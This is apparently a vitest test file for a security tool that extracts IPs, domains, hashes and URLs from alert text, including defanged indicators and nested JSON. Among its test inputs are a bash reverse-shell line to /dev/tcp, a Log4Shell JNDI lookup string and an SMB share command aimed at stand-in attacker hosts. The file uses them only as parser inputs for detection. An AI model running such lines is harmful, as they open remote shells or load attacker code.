import { describe, expect, test } from 'vitest';
import type { Indicators, JsonObject, JsonValue } from '../../../src/features/ingest/normalize/normalize.js';
import { indicatorsIn, oneAlert } from './one-alert.js';

const MD5 = '0cc175b9c0f1b6a831c399e269772661';
const SHA1 = '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8';
const SHA256 = 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb';

type Case = [text: string, found: Partial<Indicators>];

describe('addresses', () => {
  test.each<Case>([
    ['203.0.113.9', { ips: ['203.0.113.9'] }],
    ['from 203.0.113.9 port 22.', { ips: ['203.0.113.9'] }],
    ['203.0.113.9:443->198.51.100.1:80', { ips: ['203.0.113.9', '198.51.100.1'] }],
    ['203.0.113.9,198.51.100.1;10.0.0.8', { ips: ['203.0.113.9', '198.51.100.1', '10.0.0.8'] }],
    [
      '[203.0.113.9] (10.0.0.8) <192.0.2.3> "192.0.2.4"',
      { ips: ['203.0.113.9', '10.0.0.8', '192.0.2.3', '192.0.2.4'] },
    ],
    ['203.0.113.5-203.0.113.9', { ips: ['203.0.113.5', '203.0.113.9'] }],
    ['ssh root@203.0.113.9', { ips: ['203.0.113.9'] }],
    ['bash -i >& /dev/tcp/203.0.113.9/4444', { ips: ['203.0.113.9'] }],
    ['192.0.2.7/24 in 192.0.2.0/24', { ips: ['192.0.2.7'] }],
    ['::ffff:203.0.113.9', { ips: ['203.0.113.9'] }],
    ['0:0:0:0:0:ffff:cb00:7109', { ips: ['203.0.113.9'] }],
    ['2001:0DB8:0000:0000:0000:0000:0000:0001', { ips: ['2001:db8::1'] }],
    ['from 2001:db8::5: denied', { ips: ['2001:db8::5'] }],
    ['src:2001:db8::7 dst:[fe80::1%eth0]:22', { ips: ['2001:db8::7', 'fe80::1'] }],
    ['127.0.0.1 127.0.0.53 0.0.0.0 255.255.255.255 255.255.255.0 ::1 ::', {}],
    ['2001:db8::/32', {}],
    ['1.2.3.256 1.2.3 1.2.3.4.5 01.2.3.4', {}],
    ['00:1a:2b:3c:4d:5e and 50:06:01:60:3b:a0:11:22 at 12:34:56', {}],
    ['std::vector DB::add Fade::Add', {}],
  ])('%j', (text, found) => {
    expect(indicatorsIn(text)).toEqual(found);
  });
});

describe('domains', () => {
  test.each<Case>([
    ['evil-site.com', { domains: ['evil-site.com'] }],
    ['Contact EVIL-SITE.COM. Now', { domains: ['evil-site.com'] }],
    ['c2.evil.co.uk:8443/path', { domains: ['c2.evil.co.uk'] }],
    ['_dmarc.evil-site.com and *.evil-site.org', { domains: ['_dmarc.evil-site.com', 'evil-site.org'] }],
    ['mail from j.doe@evil-site.com', { domains: ['evil-site.com'] }],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the lookup string of an attack
    ['${jndi:ldap://evil-site.com:1389/a}', { domains: ['evil-site.com'] }],
    ['net use \\\\evil-site.com\\share', { domains: ['evil-site.com'] }],
    ['bücher.de', { domains: ['xn--bcher-kva.de'] }],
    ['访问了evil-site.com的页面', { domains: ['evil-site.com'] }],
    ['web-01.corp.local printer.lan srv.internal x.example co.uk localhost', {}],
    ['4.3.2.1.in-addr.arpa', {}],
  ])('%j', (text, found) => {
    expect(indicatorsIn(text)).toEqual(found);
  });
});

describe('hashes', () => {
  test.each<Case>([
    [MD5, { hashes: [MD5] }],
    [SHA1.toUpperCase(), { hashes: [SHA1] }],
    [`file ${SHA256} dropped`, { hashes: [SHA256] }],
    [`MD5=${MD5},SHA256=${SHA256}`, { hashes: [MD5, SHA256] }],
    [`sha256:${SHA256}`, { hashes: [SHA256] }],
    [`C:\\samples\\${MD5}.exe`, { hashes: [MD5] }],
    [`${SHA256}ab`, {}],
    ['f'.repeat(31), {}],
  ])('%j', (text, found) => {
    expect(indicatorsIn(text)).toEqual(found);
  });

  test('by the name of their field, where the digits alone could be an id', () => {
    const digits = '1'.repeat(32);
    expect(indicatorsIn(digits, 'md5')).toEqual({ hashes: [digits] });
    expect(indicatorsIn(digits, 'fileHash')).toEqual({ hashes: [digits] });
    expect(indicatorsIn(digits, 'order')).toEqual({});
  });
});

describe('URLs', () => {
  test.each<Case>([
    ['http://evil.com/a?b=c#d', { urls: ['http://evil.com/a?b=c#d'], domains: ['evil.com'] }],
    ['(see https://evil.com/a(b)c).', { urls: ['https://evil.com/a(b)c'], domains: ['evil.com'] }],
    ['[link](http://evil.com/x)', { urls: ['http://evil.com/x'], domains: ['evil.com'] }],
    [
      '"http://evil.com/q" \'http://evil.com/r\'',
      { urls: ['http://evil.com/q', 'http://evil.com/r'], domains: ['evil.com'] },
    ],
    [
      'http://a-b.com/x,http://c-d.com/y',
      { urls: ['http://a-b.com/x', 'http://c-d.com/y'], domains: ['a-b.com', 'c-d.com'] },
    ],
    ['http://203.0.113.9:8080/x.sh', { urls: ['http://203.0.113.9:8080/x.sh'], ips: ['203.0.113.9'] }],
    ['http://[2001:DB8::1]/x', { urls: ['http://[2001:db8::1]/x'], ips: ['2001:db8::1'] }],
    ['http://user:pw@evil.com/x', { urls: ['http://user:pw@evil.com/x'], domains: ['evil.com'] }],
    ['HTTP://Evil.COM/Path', { urls: ['http://evil.com/Path'], domains: ['evil.com'] }],
    ['http://intranet/x', { urls: ['http://intranet/x'] }],
    ['https://files.evil.zip/a', { urls: ['https://files.evil.zip/a'], domains: ['files.evil.zip'] }],
    ['{\\"u\\":\\"http:\\/\\/evil.com\\/x\\"}', { urls: ['http://evil.com/x'], domains: ['evil.com'] }],
    ['http://localhost:9200/ http://127.0.0.1/x http:// https://', {}],
    ['ftp://evil.com/x', { domains: ['evil.com'] }],
  ])('%j', (text, found) => {
    expect(indicatorsIn(text)).toEqual(found);
  });
});

test.each<Case>([
  ['hxxp://evil[.]com/a', { urls: ['http://evil.com/a'], domains: ['evil.com'] }],
  ['hXXps[:]//bad(.)site[.]net/x', { urls: ['https://bad.site.net/x'], domains: ['bad.site.net'] }],
  ['hxxps[://]evil{.}com', { urls: ['https://evil.com'], domains: ['evil.com'] }],
  ['evil[dot]com and evil [.] org', { domains: ['evil.com', 'evil.org'] }],
  ['203[.]0[.]113[.]9 198.51.100(.)1', { ips: ['203.0.113.9', '198.51.100.1'] }],
  ['2001[:]db8[:][:]1', { ips: ['2001:db8::1'] }],
  ['j.doe[@]evil[.]com', { domains: ['evil.com'] }],
  ['payload[.]zip', { domains: ['payload.zip'] }],
])('defanged text is re-fanged: %j', (text, found) => {
  expect(indicatorsIn(text)).toEqual(found);
});

describe('the tree', () => {
  const atDepth = (depth: number, wrap: (inner: JsonValue) => JsonValue): JsonObject => {
    let value: JsonValue = '203.0.113.9';
    for (let level = 1; level < depth; level++) value = wrap(value);
    return { root: value };
  };

  test.each<[string, (inner: JsonValue) => JsonValue]>([
    ['objects', (inner) => ({ deeper: inner })],
    ['lists', (inner) => [inner, 1]],
  ])('is walked through %s to depth 10 and no deeper', (_, wrap) => {
    expect(oneAlert(atDepth(10, wrap)).iocs.ips).toEqual(['203.0.113.9']);
    expect(oneAlert(atDepth(11, wrap)).iocs.ips).toEqual([]);
  });

  test('gives each indicator once, in order of appearance', () => {
    const { iocs } = oneAlert({ a: ['192.0.2.2', '192.0.2.1'], b: { c: '192.0.2.1 2001:db8::1' }, d: '192.0.2.3' });
    expect(iocs).toEqual({
      ips: ['192.0.2.2', '192.0.2.1', '2001:db8::1', '192.0.2.3'],
      domains: [],
      hashes: [],
      urls: [],
    });
  });

  test('is read inside JSON strings, whose members keep their names', () => {
    const event = JSON.stringify({ src: '203.0.113.9', device_id: MD5, file: JSON.stringify({ md5: MD5 }) });
    expect(indicatorsIn(event)).toEqual({ ips: ['203.0.113.9'], hashes: [MD5] });
  });
});
